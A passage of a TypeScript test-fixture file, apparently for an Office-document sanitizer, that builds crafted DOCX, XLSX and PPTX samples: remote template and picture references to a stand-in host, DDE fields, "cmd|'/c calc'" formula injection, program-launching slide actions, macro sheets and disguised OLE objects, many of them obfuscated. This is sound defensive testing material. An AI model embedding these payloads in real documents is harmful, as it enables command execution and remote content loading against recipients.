import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import type { RejectionCode } from '#core';
import { compoundFile } from '../compound-file.js';
import { aDocument, aPresentation, aWorkbook, OfficeBuilder } from '../office-builder.js';
import { DOCX, PPTX, XLSX, type Attack } from '../sample.js';

/** Files whose labels are honest only to who reads labels: readers go by reference, or by content. */

const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const STRICT_R = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const HOST = 'http://host/pixel.png';
const DOCUMENT = 'word/document.xml';
const SHEET = 'xl/worksheets/sheet1.xml';
const SLIDE = 'ppt/slides/slide1.xml';

const attack = (
  code: RejectionCode,
  contentType: string,
  name: string,
  office: () => OfficeBuilder,
): Attack => ({ code, contentType, name, bytes: () => office().bytes() });

/** Larger than the first read, so that not every part is at hand. */
const large = (office: OfficeBuilder, folder: string): OfficeBuilder => {
  const padded = new OfficeBuilder();
  const photo = (): Buffer =>
    Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), randomBytes(400_000)]);
  padded.defaults.clear();
  for (const [extension, type] of office.defaults) padded.defaults.set(extension, type);
  padded.defaults.set('png', 'image/png');
  padded.part(`${folder}/media/photo1.png`, photo(), undefined, { method: 0 });
  for (const [name, part] of office.parts) padded.parts.set(name, part);
  padded.part(`${folder}/media/photo2.png`, photo(), undefined, { method: 0 });
  for (const [name, type] of office.overrides) padded.overrides.set(name, type);
  for (const [source, all] of office.relationships) padded.relationships.set(source, all);
  return padded;
};

const blip = (attributes: string): string =>
  `<w:p><w:r><w:drawing><a:blip xmlns:a="${A}" ${attributes}/></w:drawing></w:r></w:p>`;
const linked = (body: string, target = HOST, mode: string | undefined = 'External'): OfficeBuilder =>
  aDocument(body).relate(DOCUMENT, 'hyperlink', target, mode);

const xmlPart = (root: string, content = '', namespace = A): string =>
  `<x:${root} xmlns:x="${namespace}" xmlns:a="${A}" xmlns:r="${R}">${content}</x:${root}>`;

/** A part of some kind that loads a picture through a hyperlink. */
const throughHyperlink = (
  office: OfficeBuilder,
  [name, contentType, root]: readonly [name: string, contentType: string, root: string],
): OfficeBuilder =>
  office
    .part(name, xmlPart(root, '<a:blip r:link="rId1"/>'), contentType)
    .relate(name, 'hyperlink', HOST, 'External');

const hyperlinks: readonly Attack[] = [
  ...(
    [
      ['a linked picture', blip('r:link="rId1"')],
      ['an embedded picture', blip('r:embed="rId1"')],
      ['an id with blanks around it', blip('r:link=" rId1&#9;"')],
      ['another prefix', blip(`xmlns:q="${R}" q:link="rId1"`)],
      ['the strict namespace', blip(`xmlns:q="${STRICT_R}" q:link="rId1"`)],
      [
        'one branch of an alternative',
        `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x">${blip('r:link="rId1"')}</mc:Choice></mc:AlternateContent>`,
      ],
      [
        'a VML picture',
        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rId1"/></w:pict></w:r></w:p>',
      ],
      [
        'a VML picture by its own id',
        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rId1"/></w:pict></w:r></w:p>',
      ],
      ['the sound of a hyperlink', `<a:hlinkClick xmlns:a="${A}"><a:snd r:embed="rId1"/></a:hlinkClick>`],
      ['a film', `<a:videoFile xmlns:a="${A}" r:link="rId1"/>`],
    ] as const
  ).map(([name, body]) =>
    attack('external-reference', DOCX, `a hyperlink used by ${name}`, () => linked(body)),
  ),
  attack('external-reference', DOCX, 'a hyperlink used by a picture, not said to be external', () =>
    linked(blip('r:link="rId1"'), HOST, undefined),
  ),
  attack('external-reference', DOCX, 'a hyperlink to a share used by a picture', () =>
    linked(blip('r:link="rId1"'), '\\\\host\\share\\x.png'),
  ),
  attack('external-reference', DOCX, 'a hyperlink used by the template of the settings', () =>
    aDocument()
      .relate(DOCUMENT, 'settings', 'settings.xml')
      .part(
        'word/settings.xml',
        `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
        `${OPEN_XML}.wordprocessingml.settings+xml`,
      )
      .relate('word/settings.xml', 'hyperlink', 'http://host/t.dotm', 'External'),
  ),
  attack('external-reference', DOCX, 'a hyperlink used by a frame', () =>
    aDocument()
      .relate(DOCUMENT, 'webSettings', 'webSettings.xml')
      .part(
        'word/webSettings.xml',
        `<w:webSettings xmlns:w="${W}" xmlns:r="${R}"><w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
        `${OPEN_XML}.wordprocessingml.webSettings+xml`,
      )
      .relate('word/webSettings.xml', 'hyperlink', 'http://host/', 'External'),
  ),
  ...(
    [
      ['xl/drawings/drawing1.xml', `${OPEN_XML}.drawing+xml`, 'wsDr'],
      ['xl/charts/chart1.xml', `${OPEN_XML}.drawingml.chart+xml`, 'chartSpace'],
      ['xl/diagrams/data1.xml', `${OPEN_XML}.drawingml.diagramData+xml`, 'dataModel'],
      ['xl/theme/theme1.xml', `${OPEN_XML}.theme+xml`, 'theme'],
      ['xl/drawings/vmlDrawing1.vml', `${OPEN_XML}.vmlDrawing`, 'xml'],
      ['xl/worksheets/sheet2.xml', `${OPEN_XML}.spreadsheetml.worksheet+xml`, 'worksheet'],
      ['xl/x.bin', 'application/xml', 'whatever'],
    ] as const
  ).flatMap((part) => [
    attack('external-reference', XLSX, `a hyperlink used by a picture in ${part[0]}`, () =>
      throughHyperlink(aWorkbook(), part),
    ),
    attack('external-reference', XLSX, `a hyperlink used by a picture in ${part[0]} of a large file`, () =>
      large(throughHyperlink(aWorkbook(), part), 'xl'),
    ),
  ]),
  ...['slideLayout', 'slideMaster', 'notesSlide', 'notesMaster'].map((kind) =>
    attack('external-reference', PPTX, `a hyperlink used by a picture in a ${kind}`, () =>
      throughHyperlink(aPresentation(), [
        `ppt/x/${kind}1.xml`,
        `${OPEN_XML}.presentationml.${kind}+xml`,
        kind,
      ]),
    ),
  ),
  attack('external-reference', XLSX, 'a hyperlink used for the background of a sheet', () =>
    aWorkbook()
      .part(SHEET, xmlPart('worksheet', '<x:picture r:id="rId1"/>', S))
      .relate(SHEET, 'hyperlink', HOST, 'External'),
  ),
  attack('external-reference', XLSX, 'a hyperlink used for the numbers of a chart', () =>
    aWorkbook()
      .part(
        'xl/charts/chart1.xml',
        xmlPart('chartSpace', '<x:externalData r:id="rId1"/>'),
        `${OPEN_XML}.drawingml.chart+xml`,
      )
      .relate('xl/charts/chart1.xml', 'hyperlink', 'http://host/book.xlsx', 'External'),
  ),
  attack('external-reference', XLSX, 'a hyperlink used for a picture in a cell', () =>
    aWorkbook()
      .part(
        'xl/richData/rdRichValueWebImage.xml',
        `<webImagesSrd xmlns="http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage" xmlns:r="${R}"><webImageSrd><address r:id="rId1"/></webImageSrd></webImagesSrd>`,
        'application/vnd.ms-excel.rdrichvaluewebimage+xml',
      )
      .relate('xl/richData/rdRichValueWebImage.xml', 'hyperlink', HOST, 'External'),
  ),
  attack('malformed', DOCX, 'two relationships with one id', () =>
    aDocument(blip('r:link="rId1"'))
      .relate(DOCUMENT, 'hyperlink', HOST, 'External', 'rId1')
      .relate(DOCUMENT, 'theme', 'theme.xml', undefined, ' rId1'),
  ),
];

const FOREIGN: readonly (readonly [name: string, bytes: () => Buffer])[] = [
  ['an OLE container', () => compoundFile(['WordDocument'])],
  ['a document', () => aDocument().bytes()],
  ['an empty ZIP', () => Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])],
  [
    'a program',
    () =>
      Buffer.concat([
        Buffer.from('MZ'),
        Buffer.alloc(58),
        Buffer.from([0x40, 0, 0, 0]),
        Buffer.from('PE\0\0'),
      ]),
  ],
  ['an ELF program', () => Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(100)])],
  ['a rich text', () => Buffer.from('{\\rtf1 hello}')],
  ['a rich text without a version', () => Buffer.from(' \r\n{\\rt hello}')],
  ['a page', () => Buffer.from('<!DOCTYPE html><html></html>')],
  ['a page after a byte order mark and blanks', () => Buffer.from('\ufeff \n<HTML><body>')],
  [
    'an XHTML page',
    () => Buffer.from('<?xml version="1.0"?><!-- x --><html xmlns="http://www.w3.org/1999/xhtml"/>'),
  ],
  ['a page in UTF-16', () => Buffer.from('\ufeff<html></html>', 'utf16le')],
  ['a mail', () => Buffer.from('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n')],
  [
    "Chrome's archive of a page",
    () => Buffer.from('From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\n'),
  ],
  ['a shell script', () => Buffer.from('#!/bin/sh\n')],
  ['a shortcut', () => Buffer.from('[InternetShortcut]\r\nURL=http://host/\r\n')],
  ['a symbolic link table', () => Buffer.from('ID;PWXL;N;E\r\n')],
  ['a web query', () => Buffer.from('WEB\r\n1\r\nhttp://host/\r\n')],
  ['a shortcut of Windows', () => Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['a script element', () => Buffer.from('<script>1</script>')],
  ['a PDF', () => Buffer.from('%PDF-1.7\n')],
  [
    'Word in one file',
    () =>
      Buffer.from(
        '<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>',
      ),
  ],
  [
    'Excel 2003 XML',
    () =>
      Buffer.from(
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
      ),
  ],
  [
    'Word 2003 XML',
    () =>
      Buffer.from(
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>',
      ),
  ],
];

const foreign: readonly Attack[] = [
  ...FOREIGN.flatMap(([name, bytes]) =>
    (
      [
        ['a picture', 'word/media/image1.png', 'image/png', 'image'],
        [
          'printer settings',
          'word/printerSettings1.bin',
          `${OPEN_XML}.wordprocessingml.printerSettings`,
          'printerSettings',
        ],
        ['a part of an add-in', 'word/x.dat', 'application/x-addin', 'http://host/addin'],
        ['a part that nothing leads to', 'word/y.dat', undefined, undefined],
      ] as const
    ).map(([label, part, contentType, kind]) =>
      attack('embedded-object', DOCX, `${name} in the clothes of ${label}`, () => {
        const office = aDocument().part(part, bytes(), contentType);
        return kind === undefined ? office : office.relate(DOCUMENT, kind, part.replace('word/', ''));
      }),
    ),
  ),
  attack('embedded-object', PPTX, 'an OLE container as a picture in a large presentation', () =>
    large(
      aPresentation('<p:oleObj r:id="rId1" progId="Package"/>')
        .part('ppt/media/image1.emf', compoundFile(['Package']), 'image/x-emf')
        .relate(SLIDE, 'image', '../media/image1.emf'),
      'ppt',
    ),
  ),
  attack('embedded-object', XLSX, 'an OLE container as a picture in a large workbook', () =>
    large(
      aWorkbook()
        .part(SHEET, xmlPart('worksheet', '<x:oleObjects><x:oleObject r:id="rId1"/></x:oleObjects>', S))
        .part('xl/media/image1.emf', compoundFile(['Package']), 'image/x-emf')
        .relate(SHEET, 'image', '../media/image1.emf'),
      'xl',
    ),
  ),
  attack('embedded-object', XLSX, 'an OLE container as a picture behind a drawing in a large workbook', () =>
    large(
      aWorkbook()
        .part(SHEET, xmlPart('worksheet', '<x:oleObjects><x:oleObject r:id="rId1"/></x:oleObjects>', S))
        .part('xl/media/image1.emf', compoundFile(['Package']), 'image/x-emf')
        .relate(SHEET, 'drawing', '../media/image1.emf'),
      'xl',
    ),
  ),
  ...['image', 'header', 'hyperlink', 'customXml', 'http://host/whatever'].map((kind) =>
    attack(
      kind === 'hyperlink' ? 'external-reference' : 'embedded-object',
      DOCX,
      `an imported text behind a relationship ${kind}`,
      () =>
        aDocument('<w:altChunk r:id="rId1"/>')
          .part('word/x.xml', `<w:hdr xmlns:w="${W}"/>`, 'application/xml')
          .relate(DOCUMENT, kind, 'x.xml'),
    ),
  ),
  attack('embedded-object', DOCX, 'an imported text in a large document, labelled a picture', () =>
    large(
      aDocument('<w:altChunk r:id="rId1"/>')
        .part('word/media/image1.png', aDocument().bytes(), 'image/png')
        .relate(DOCUMENT, 'image', 'media/image1.png'),
      'word',
    ),
  ),
  attack('embedded-object', DOCX, 'an imported text in a header', () =>
    aDocument()
      .part(
        'word/header1.xml',
        `<w:hdr xmlns:w="${W}" xmlns:r="${R}"><w:altChunk r:id="rId1"/></w:hdr>`,
        `${OPEN_XML}.wordprocessingml.header+xml`,
      )
      .part('word/x.txt', 'hello', 'image/png')
      .relate(DOCUMENT, 'header', 'header1.xml')
      .relate('word/header1.xml', 'image', 'x.txt'),
  ),
  attack('active-content', XLSX, 'an ActiveX control behind a relationship for a picture', () =>
    aWorkbook()
      .part(SHEET, xmlPart('worksheet', '<x:controls><x:control r:id="rId1"/></x:controls>', S))
      .part('xl/x.png', '\x89PNG', 'image/png')
      .relate(SHEET, 'image', '../x.png'),
  ),
  attack('malformed', DOCX, 'a picture that is an Office part by its content type', () =>
    aDocument()
      .part('word/x.xml', '<x/>', `${OPEN_XML}.wordprocessingml.header+xml`)
      .relate(DOCUMENT, 'image', 'x.xml'),
  ),
  attack('malformed', DOCX, 'a picture that is XML, but no drawing', () =>
    aDocument().part('word/x.png', '<x/>', 'image/png').relate(DOCUMENT, 'image', 'x.png'),
  ),
  attack('malformed', DOCX, 'settings that are no XML', () =>
    aDocument()
      .part('word/settings.bin', 'settings', 'application/x-settings')
      .relate(DOCUMENT, 'settings', 'settings.bin'),
  ),
  attack('malformed', DOCX, 'XML without an end to what stands before its root element', () =>
    aDocument().part('word/x.xml', `<!--${'x'.repeat(200_000)}`, 'application/xml'),
  ),
  attack('embedded-object', DOCX, "an object in Word's own element for it", () =>
    aDocument('<w:p><w:r><w:object><w:objectEmbed r:id="rId1"/></w:object></w:r></w:p>')
      .part('word/media/x.png', 'OLE', 'image/png')
      .relate(DOCUMENT, 'image', 'media/x.png'),
  ),
  attack('malformed', DOCX, 'XML that is compressed', () =>
    aDocument().part('word/x.xml', gzipSync('<x/>'), 'application/xml'),
  ),
];

const DDE = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>';
const story = (root: string): string => `<w:${root} xmlns:w="${W}" xmlns:r="${R}">${DDE}</w:${root}>`;
const stories: readonly Attack[] = (
  [
    ['header', 'hdr'],
    ['footer', 'ftr'],
    ['footnotes', 'footnotes'],
    ['endnotes', 'endnotes'],
    ['comments', 'comments'],
    ['glossaryDocument', 'glossaryDocument'],
  ] as const
).flatMap(([kind, root]) => [
  ...[
    'application/xml',
    'text/xml',
    'application/octet-stream',
    `${OPEN_XML}.wordprocessingml.styles+xml`,
  ].flatMap((contentType) => [
    attack('active-content', DOCX, `a DDE field in ${kind} served as ${contentType}`, () =>
      aDocument().part('word/x1.xml', story(root), contentType).relate(DOCUMENT, kind, 'x1.xml'),
    ),
    attack(
      'active-content',
      DOCX,
      `a DDE field in ${kind} served as ${contentType}, by its root element`,
      () =>
        aDocument().part('word/x1.xml', story(root), contentType).relate(DOCUMENT, 'http://host/x', 'x1.xml'),
    ),
    attack(
      'active-content',
      DOCX,
      `a DDE field in ${kind} served as ${contentType} of a large document`,
      () =>
        large(
          aDocument().part('word/x1.xml', story(root), contentType).relate(DOCUMENT, kind, 'x1.xml'),
          'word',
        ),
    ),
  ]),
  attack('active-content', DOCX, `a DDE field in ${kind} under a strict relationship`, () =>
    aDocument()
      .part('word/x1.xml', story(root), 'application/xml')
      .relate(DOCUMENT, `${STRICT_R}/${kind}`, 'x1.xml'),
  ),
  attack('active-content', DOCX, `a DDE field in ${kind} after a long comment`, () =>
    aDocument()
      .part(
        'word/x1.xml',
        `<?xml version="1.0"?><!--${randomBytes(9000).toString('hex')}-->${story(root)}`,
        'application/xml',
      )
      .relate(DOCUMENT, 'http://host/x', 'x1.xml'),
  ),
]);

const byDefault: readonly Attack[] = [
  attack(
    'active-content',
    DOCX,
    'a DDE field in a header that has the type of the main part by default',
    () => {
      const office = aDocument().part('word/x1.xml', story('hdr')).relate(DOCUMENT, 'header', 'x1.xml');
      office.defaults.set('xml', office.overrides.get(DOCUMENT)!);
      office.overrides.clear();
      return office;
    },
  ),
];

const misused: readonly Attack[] = [
  attack('malformed', DOCX, 'a header behind a relationship for a picture in a large document', () =>
    large(
      aDocument('<w:p><w:pPr><w:sectPr><w:headerReference r:id="rId1"/></w:sectPr></w:pPr></w:p>')
        .part('word/media/x.png', story('hdr'), 'image/png')
        .relate(DOCUMENT, 'image', 'media/x.png'),
      'word',
    ),
  ),
];

/** Whoever is read in a large workbook or presentation, names a part by id that is labelled as something played or shown. */
const labelled: readonly Attack[] = [
  ...['image', 'audio', 'video', 'media', 'font', 'thumbnail', 'hdphoto'].flatMap((kind) => [
    ...[`${OPEN_XML}.spreadsheetml.worksheet+xml`, 'application/xml'].map((contentType) =>
      attack(
        'embedded-object',
        XLSX,
        `an OLE container labelled ${kind} in a sheet served as ${contentType}, in a large workbook`,
        () =>
          large(
            aWorkbook()
              .part(
                SHEET,
                xmlPart('worksheet', '<x:oleObjects><x:oleObject r:id="rId1"/></x:oleObjects>', S),
                contentType,
              )
              .part('xl/media/image1.emf', compoundFile(['Package']), 'image/x-emf')
              .relate(SHEET, kind, '../media/image1.emf'),
            'xl',
          ),
      ),
    ),
    attack(
      'external-reference',
      XLSX,
      `a link to another workbook labelled ${kind}, in a large workbook`,
      () =>
        large(
          named('<x:externalReferences><x:externalReference r:id="rId2"/></x:externalReferences>', kind, [
            'externalLink',
            '<x:ddeLink ddeService="cmd"/>',
          ]),
          'xl',
        ),
    ),
    attack('malformed', XLSX, `a sheet labelled ${kind}, in a large workbook`, () =>
      large(
        named('<x:sheets><x:sheet r:id="rId2"/></x:sheets>', kind, ['worksheet', '<x:f>cmd|x!A0</x:f>']),
        'xl',
      ),
    ),
    attack('malformed', XLSX, `a pivot cache labelled ${kind}, in a large workbook`, () =>
      large(
        named('<x:pivotCaches><x:pivotCache r:id="rId2"/></x:pivotCaches>', kind, [
          'pivotCacheDefinition',
          '',
        ]),
        'xl',
      ),
    ),
    attack('malformed', PPTX, `a slide labelled ${kind}, in a large presentation`, () =>
      large(
        aPresentation()
          .part('ppt/presentation.xml', xmlPart('presentation', '<x:sldId r:id="rId2"/>'))
          .part('ppt/media/x.png', xmlPart('sld', '<a:hlinkHover action="ppaction://program"/>'), 'image/png')
          .relate('ppt/presentation.xml', kind, 'media/x.png'),
        'ppt',
      ),
    ),
  ]),
];
/** A workbook that names a part by the id of a relationship of that kind. */
function named(content: string, kind: string, [root, inner]: readonly [string, string]): OfficeBuilder {
  return aWorkbook()
    .part('xl/workbook.xml', xmlPart('workbook', content, S))
    .part('xl/media/x.png', xmlPart(root, inner, S), 'image/png')
    .relate('xl/workbook.xml', kind, 'media/x.png');
}

const connectionsPart = (attributes: string): OfficeBuilder =>
  aWorkbook().part(
    'xl/connections.xml',
    `<connections xmlns="${S}"><connection id="1" ${attributes}/></connections>`,
    `${OPEN_XML}.spreadsheetml.connections+xml`,
  );
const queryTable = (
  attributes: string,
  contentType = `${OPEN_XML}.spreadsheetml.queryTable+xml`,
): OfficeBuilder =>
  aWorkbook()
    .part(
      'xl/queryTables/queryTable1.xml',
      `<queryTable xmlns="${S}" name="q" connectionId="1" ${attributes}/>`,
      contentType,
    )
    .relate(SHEET, 'queryTable', '../queryTables/queryTable1.xml');
const pivot = (attributes: string, source: string): OfficeBuilder =>
  aWorkbook()
    .part(
      'xl/pivotCache/p1.xml',
      `<pivotCacheDefinition xmlns="${S}" xmlns:r="${R}" ${attributes}>${source}</pivotCacheDefinition>`,
      `${OPEN_XML}.spreadsheetml.pivotCacheDefinition+xml`,
    )
    .relate('xl/workbook.xml', 'pivotCacheDefinition', 'pivotCache/p1.xml');
const refreshes: readonly Attack[] = [
  ...['1', 'true', ' 1', 'true ', '&#9;1&#10;', 'TRUE', 'on'].flatMap((value) => [
    attack('external-reference', XLSX, `a connection that refreshes on opening: ${value}`, () =>
      connectionsPart(`refreshOnLoad="${value}"`),
    ),
    attack('external-reference', XLSX, `a query table that refreshes on opening: ${value}`, () =>
      queryTable(`refreshOnLoad="${value}"`),
    ),
    attack('external-reference', XLSX, `a pivot cache that refreshes on opening: ${value}`, () =>
      pivot(`refreshOnLoad="${value}"`, '<cacheSource type="external" connectionId="1"/>'),
    ),
  ]),
  attack('external-reference', XLSX, 'a connection that refreshes every minute', () =>
    connectionsPart('interval=" 1"'),
  ),
  attack('external-reference', XLSX, 'a query table served as application/xml', () =>
    queryTable('refreshOnLoad="1"', 'application/xml'),
  ),
  attack('external-reference', XLSX, 'a query table of a large workbook served as an image', () =>
    large(queryTable('refreshOnLoad="1"', 'image/png'), 'xl'),
  ),
  attack('external-reference', XLSX, 'a pivot cache over another workbook', () =>
    pivot(
      'refreshOnLoad="1"',
      '<cacheSource type="worksheet"><worksheetSource r:id="rId1" ref="A1:B2"/></cacheSource>',
    ),
  ),
];

const refreshAll: readonly Attack[] = ['1', ' true'].map((value) =>
  attack(
    'external-reference',
    XLSX,
    `a workbook that refreshes all its connections on opening: ${value}`,
    () =>
      connectionsPart('').part(
        'xl/workbook.xml',
        `<workbook xmlns="${S}"><workbookPr refreshAllConnections="${value}"/><sheets/></workbook>`,
      ),
  ),
);

const macroSheet = (name: string, contentType: string, content: string): OfficeBuilder =>
  aWorkbook()
    .part(name, content, contentType)
    .relate('xl/workbook.xml', 'worksheet', name.replace('xl/', ''));
const XM = 'http://schemas.microsoft.com/office/excel/2006/main';
const macros: readonly Attack[] = [
  ...[
    `${OPEN_XML}.spreadsheetml.worksheet+xml`,
    `${OPEN_XML}.spreadsheetml.dialogsheet+xml`,
    'application/xml',
    'image/png',
  ].map((contentType) =>
    attack('macro', XLSX, `an Excel 4.0 macro sheet served as ${contentType}`, () =>
      macroSheet('xl/worksheets/sheet2.xml', contentType, `<xm:macrosheet xmlns:xm="${XM}"/>`),
    ),
  ),
  attack('macro', XLSX, 'an Excel 4.0 macro sheet in UTF-16', () =>
    aWorkbook()
      .part(
        'xl/worksheets/sheet2.xml',
        Buffer.from(`\ufeff<xm:macrosheet xmlns:xm="${XM}"/>`, 'utf16le'),
        `${OPEN_XML}.spreadsheetml.worksheet+xml`,
      )
      .relate('xl/workbook.xml', 'worksheet', 'worksheets/sheet2.xml'),
  ),
  attack('macro', XLSX, 'an Excel 4.0 macro sheet of a large workbook', () =>
    large(
      macroSheet(
        'xl/worksheets/sheet2.xml',
        `${OPEN_XML}.spreadsheetml.worksheet+xml`,
        `<xm:macrosheet xmlns:xm="${XM}"/>`,
      ),
      'xl',
    ),
  ),
  attack('malformed', XLSX, "a sheet in Excel's binary records", () =>
    macroSheet('xl/worksheets/sheet2.bin', 'application/vnd.ms-excel.worksheet', '\x81\x01\x00\x93\x01\x17'),
  ),
];

const slide = (action: string, target?: string, mode: string | undefined = 'External'): OfficeBuilder => {
  const deck = aPresentation(`<p:cNvPr>${action}</p:cNvPr>`);
  return target === undefined ? deck : deck.relate(SLIDE, 'hyperlink', target, mode);
};
const actions: readonly Attack[] = [
  ...['hlinkHover', 'hlinkMouseOver'].flatMap((element) =>
    (
      [
        ['the web', 'http://host/', 'External'],
        ['a share', '\\\\host\\share\\x', 'External'],
        ['a share, as a file URL', 'file:///\\\\host\\share\\x', 'External'],
        ['a share, percent-encoded and without a mode', '%5C%5Chost%5Cshare%5Cx', undefined],
        ['a share, after a blank and without a mode', ' \\\\host\\share\\x', undefined],
        ['the web, without a mode', 'http://host/', undefined],
        ['a drive, without a mode', 'c:\\x.exe', undefined],
        ['a file by its name, without a mode', 'x.exe', undefined],
      ] as const
    ).map(([name, target, mode]) =>
      attack('external-reference', PPTX, `a slide that opens ${name} by ${element}`, () =>
        slide(`<a:${element} r:id="rId1"/>`, target, mode),
      ),
    ),
  ),
  ...[
    'ppaction://program',
    ' ppaction://program',
    'PPACTION://Program',
    'pp%61ction://program',
    'ppaction://%70rogram',
    '&#9;ppaction: //program',
    'ppaction://macro?name=x',
    'ppaction:\\\\program',
  ].flatMap((action) =>
    ['hlinkClick', 'hlinkHover'].flatMap((element) => [
      attack('active-content', PPTX, `a slide with an action ${action} by ${element}`, () =>
        slide(`<a:${element} action="${action}"/>`),
      ),
      attack(
        'active-content',
        PPTX,
        `a slide of a large presentation with an action ${action} by ${element}`,
        () => large(slide(`<a:${element} action="${action}"/>`), 'ppt'),
      ),
    ]),
  ),
  attack('active-content', PPTX, 'a slide that starts a program on the web', () =>
    slide('<a:hlinkClick r:id="rId1" action="ppaction://program"/>', 'http://host/x.exe'),
  ),
  attack('active-content', PPTX, 'a slide that opens an object under the pointer', () =>
    slide('<a:hlinkHover action="ppaction://ole?verb=0"/>'),
  ),
  ...['slideLayout', 'slideMaster', 'notesSlide'].map((kind) =>
    attack('external-reference', PPTX, `a ${kind} that opens a share under the pointer`, () =>
      aPresentation()
        .part(
          `ppt/x/${kind}1.xml`,
          xmlPart(kind, '<a:hlinkHover r:id="rId1"/>'),
          `${OPEN_XML}.presentationml.${kind}+xml`,
        )
        .relate(`ppt/x/${kind}1.xml`, 'hyperlink', '\\\\host\\share\\x', 'External'),
    ),
  ),
];

const targets: readonly Attack[] = [
  ' \\\\host\\share\\t.dotm',
  '&#9;\\\\host\\share\\t.dotm',
  '%5C%5Chost%5Cshare%5Ct%zz.dotm',
  '%255C%255Chost%255Cshare%255Ct.dotm',
  'file:///%5C%5Chost%5Cshare%5C%zz',
  '\\&#9;\\host\\t.dotm',
  'file:///c:/../../\\\\host\\share\\t.dotm',
  ' http://host/t.dotm',
  'h%74tp://host/t.dotm',
].map((target) =>
  attack('external-reference', DOCX, `a template at ${target}`, () =>
    aDocument().relate(DOCUMENT, 'attachedTemplate', target, 'External'),
  ),
);
const modeless: readonly Attack[] = [
  ' http://host/x.png',
  '%68ttp://host/x.png',
  '%5c%5chost\\x.png',
  '/\\host\\x.png',
  'file:x.png',
  '&#1;http://host/'.replace('&#1;', '&#10;'),
].map((target) =>
  attack('external-reference', DOCX, `a picture at ${target}, not said to be external`, () =>
    aDocument().relate(DOCUMENT, 'image', target),
  ),
);

const V = 'urn:schemas-microsoft-com:vml';
const SOURCES = [
  'http://host/x.png',
  ' http://host/x.png',
  'ht&#9;tp://host/x.png',
  '&#104;ttp://host/x.png',
  '\\\\host\\x.png',
  '%5c%5chost\\x.png',
  '/\\host\\x.png',
  `${' '.repeat(3000)}//host/x.png`,
];
const vml = (content: string): string =>
  `<xml xmlns:v="${V}" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape>${content}<br></v:shape></xml>`;
const addressed = (office: OfficeBuilder, source: string, kind: string, content: Buffer | string) =>
  office.part('x/part.x', content, 'application/xml').relate(source, kind, '/x/part.x');
const inSettings = (content: string): OfficeBuilder =>
  addressed(aDocument(), DOCUMENT, 'settings', `<w:settings xmlns:w="${W}">${content}</w:settings>`);
const addresses: readonly Attack[] = [
  ...SOURCES.flatMap((address) => {
    const picture = `<v:imagedata xmlns:v="${V}" src="${address}"/>`;
    const where: readonly (readonly [string, string, () => OfficeBuilder, string])[] = [
      ['the text', DOCX, () => aDocument(`<w:p><w:r><w:pict>${picture}</w:pict></w:r></w:p>`), 'word'],
      [
        'a bullet',
        DOCX,
        () =>
          addressed(
            aDocument(),
            DOCUMENT,
            'numbering',
            `<w:numbering xmlns:w="${W}"><w:numPicBullet>${picture}</w:numPicBullet></w:numbering>`,
          ),
        'word',
      ],
      ['the settings', DOCX, () => inSettings(`<w:shapeDefaults>${picture}</w:shapeDefaults>`), 'word'],
      ['a sheet', XLSX, () => addressed(aWorkbook(), SHEET, 'vmlDrawing', vml(picture)), 'xl'],
      [
        'a sheet in UTF-16',
        XLSX,
        () => addressed(aWorkbook(), SHEET, 'vmlDrawing', Buffer.from(`\ufeff${vml(picture)}`, 'utf16le')),
        'xl',
      ],
      ['a slide', PPTX, () => addressed(aPresentation(), SLIDE, 'vmlDrawing', vml(picture)), 'ppt'],
    ];
    return where.flatMap(([name, type, office, folder]) => [
      attack('external-reference', type, `a VML picture of ${name} at ${address.trim()}`, office),
      attack(
        'external-reference',
        type,
        `a VML picture of ${name} of a large file at ${address.trim()}`,
        () => large(office(), folder),
      ),
    ]);
  }),
  attack('active-content', XLSX, 'a VML list that a program fills', () =>
    addressed(aWorkbook(), SHEET, 'vmlDrawing', vml("<x:FmlaRange>cmd|'/c calc'!A0</x:FmlaRange>")),
  ),
  attack('external-reference', DOCX, 'a mail merge that asks a database by its data link', () =>
    inSettings('<w:mailMerge><w:odso><w:udl w:val="Provider=x;Data Source=host"/></w:odso></w:mailMerge>'),
  ),
  attack('external-reference', DOCX, 'a mail merge that asks a database', () =>
    inSettings('<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=host"/></w:mailMerge>'),
  ),
];

const PROGRAM = "cmd|'/c calc'!A0";
const calculating =
  (root: string, content: string, namespace = S): (() => OfficeBuilder) =>
  () =>
    aWorkbook()
      .part('xl/part.xml', xmlPart(root, content, namespace), 'application/xml')
      .relate(SHEET, 'x', '/xl/part.xml');
/** Where a formula stands, and in workbooks of which only some parts are read. */
const formulas: readonly Attack[] = [
  ...(
    [
      ['a cell', calculating('worksheet', `<x:f>${PROGRAM}</x:f>`)],
      [
        'a name',
        () =>
          aWorkbook().part(
            'xl/workbook.xml',
